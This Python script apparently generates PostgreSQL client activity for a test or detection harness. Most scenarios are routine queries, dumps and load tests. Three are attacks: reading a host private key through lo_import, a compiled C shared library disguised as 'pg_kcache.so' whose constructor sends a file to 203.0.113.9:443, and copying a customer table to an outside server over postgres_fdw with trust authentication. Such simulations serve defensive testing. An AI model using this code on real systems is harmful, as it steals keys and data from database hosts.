#!/usr/bin/python3 -IS
"""People and programs that use the database from outside, by its own tools; not recorded: clerk.py WHAT [VALUE]

prepared: statements that are prepared, a cursor, rows that are copied in and out · dumped: a copy is taken and loaded into a second
database, which is put in order · pressed: clients side by side that do the same again and again, and one that is cut off
object PATH: a file of the host becomes a large object, which is read piece by piece · library PATH: a library is left as a large object and
loaded; it sends the file to 203.0.113.9:443 · rows HOST:PORT: a table goes to a database of somebody else's
"""
import os, shutil, subprocess, sys, time

sys.path.append("/opt/agent")
from client import HOST, OWN, attend, run
from query import BIN, CLUSTER, ORDERS, ask, client, cluster, must_hold, said, sql

TO = f"host={HOST} user=postgres sslmode=require dbname="
LIBRARY = r"""
#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>
__attribute__((constructor)) static void loaded(void) {
  char data[4096];
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(443)};
  inet_pton(AF_INET, "203.0.113.9", &to.sin_addr);
  int file = open(PATH, O_RDONLY), peer = socket(AF_INET, SOCK_STREAM, 0);
  ssize_t size = read(file, data, sizeof data);
  if (size <= 0 || connect(peer, (struct sockaddr *)&to, sizeof to) || send(peer, data, size, 0) != size) return;
  if (recv(peer, data, 3, MSG_WAITALL) == 3) close(open("/tmp/arrived", O_CREAT | O_WRONLY, 0600));
  close(peer);
  close(file);
}
"""


def prepared(number):
    rows = "".join(f"customer {at},{at}.5\n" for at in range(20 + 30 * int(number)))
    out = sql(ORDERS, "COPY orders (who, amount) FROM STDIN (FORMAT csv);", rows + "\\.", "PREPARE of (text) AS SELECT amount FROM orders WHERE who = $1;",
              *(f"EXECUTE of ('customer {at}');" for at in range(3 + int(number))), "BEGIN;",
              "DECLARE each CURSOR FOR SELECT who FROM orders ORDER BY id;", "FETCH 5 FROM each;", "MOVE 3 IN each;", "FETCH 2 FROM each;", "COMMIT;",
              "LISTEN orders;", "NOTIFY orders, 'new';", "CREATE TEMP TABLE large AS SELECT * FROM orders WHERE amount > 10;",
              "COPY (SELECT * FROM orders LIMIT 4) TO STDOUT;", "SELECT EXTRACT(hour FROM now()) >= 0;")
    must_hold(out, "customer 4")


def dumped(number):
    sql(ORDERS, f"INSERT INTO orders (who, amount) SELECT md5(n::text), n FROM generate_series(1, {200 + 300 * int(number)}) n;")
    run(f"{BIN}/pg_dump", "-Fc", "-f", f"{OWN}/dump", f"{TO}postgres")
    sql("CREATE DATABASE second;")
    run(f"{BIN}/pg_restore", "-d", f"{TO}second", f"{OWN}/dump")
    run(f"{BIN}/reindexdb", "-q", "-t", "orders", f"--maintenance-db={TO}postgres", "-d", f"{TO}second")
    run(f"{BIN}/vacuumdb", "-q", "-z", "-t", "orders", "-d", f"{TO}second")
    must_hold(sql("SELECT count(*) FROM pg_database;"), "4")


def pressed(number):
    sql(ORDERS, "INSERT INTO orders (who, amount) SELECT n::text, n FROM generate_series(1, 50) n;")
    with open(f"{OWN}/script", "w") as script:
        script.write("\\set who random(1, 50)\nUPDATE orders SET amount = amount + 1 WHERE id = :who;\nSELECT sum(amount) FROM orders;\n")
    long, _ = client("")
    long.stdin.write("SELECT pg_sleep(30);\n")
    long.stdin.flush()
    run("/usr/bin/pgbench", "-n", "-M", "prepared", "-c", str(2 + int(number) % 3), "-t", "8", "-f", f"{OWN}/script", f"{TO}postgres")
    sql("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE query LIKE 'SELECT pg_sleep%';")
    said((long, ""), 2)
    sql("SET statement_timeout = '50ms';", "SELECT pg_sleep(5);", ends=3)


def object(path):
    sql(f"SELECT lo_import('{path}', 4711);")
    text = ""
    for at in range(0, 400, 100):
        time.sleep(0.4)
        text += sql(f"SELECT convert_from(lo_get(4711, {at}, 100), 'UTF8');").removesuffix("\n")
    must_hold(text, "PRIVATE KEY")


def library(path):
    with open(f"{OWN}/library.c", "w") as source:
        source.write(LIBRARY)
    run("cc", "-shared", "-fPIC", f'-DPATH="{path}"', "-o", f"{OWN}/library.so", f"{OWN}/library.c")
    sql(f"\\lo_import {OWN}/library.so", "SELECT lo_export(:LASTOID, '/tmp/pg_kcache.so');")
    time.sleep(0.5)
    sql("LOAD '/tmp/pg_kcache.so';", ends=3)  # by then it has run; it says nothing of the version that it was made for
    if not os.path.exists("/tmp/arrived"):
        sys.exit("clerk: it did not arrive")


def two_clusters():
    cluster()
    shutil.copytree(CLUSTER, f"{OWN}/other")
    host, _, port = value.rpartition(":")
    with open(f"{OWN}/other/postgresql.conf", "a") as settings:
        settings.write(f"listen_addresses = '{host}'\nport = {port}\nssl = off\nexternal_pid_file = '{OWN}/other.pid'\n")
    with open(f"{OWN}/other/pg_hba.conf", "a") as who:
        who.write("host all all 0.0.0.0/0 trust\n")


def rows(address):
    host, _, port = address.rpartition(":")
    other = subprocess.Popen([f"{BIN}/postgres", "-D", f"{OWN}/other"], stderr=subprocess.DEVNULL)
    psql = ["psql", "-X", "-q", "-A", "-t", "-v", "ON_ERROR_STOP=1", f"host={host} port={port} user=postgres dbname=postgres"]
    for _ in range(100):
        if subprocess.run([f"{BIN}/pg_isready", "-q", "-h", host, "-p", port]).returncode == 0:
            break
        time.sleep(0.1)
    run(*psql, text="CREATE TABLE taken (who text, amount numeric);\n")
    sql(ORDERS, "INSERT INTO orders (who, amount) SELECT 'customer ' || n, n FROM generate_series(1, 60) n;")
    sql("CREATE EXTENSION postgres_fdw;", f"CREATE SERVER report FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '{host}', port '{port}', dbname 'postgres');",
        "CREATE USER MAPPING FOR postgres SERVER report OPTIONS (user 'postgres');",
        "CREATE FOREIGN TABLE monthly (who text, amount numeric) SERVER report OPTIONS (table_name 'taken');",
        *(f"INSERT INTO monthly SELECT who, amount FROM orders WHERE id % 3 = {third}; SELECT pg_sleep(0.5);" for third in range(3)))
    there = subprocess.run(psql, input="SELECT count(*) FROM taken;\n", capture_output=True, text=True, timeout=20)
    other.terminate()
    other.wait()
    must_hold(there.stdout, "60")


USES = {each.__name__: each for each in (prepared, dumped, pressed, object, library, rows)}

if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    attend("clerk.py", two_clusters if what == "rows" else cluster, "/run/postgres.pid", lambda: ask(USES, what, value))
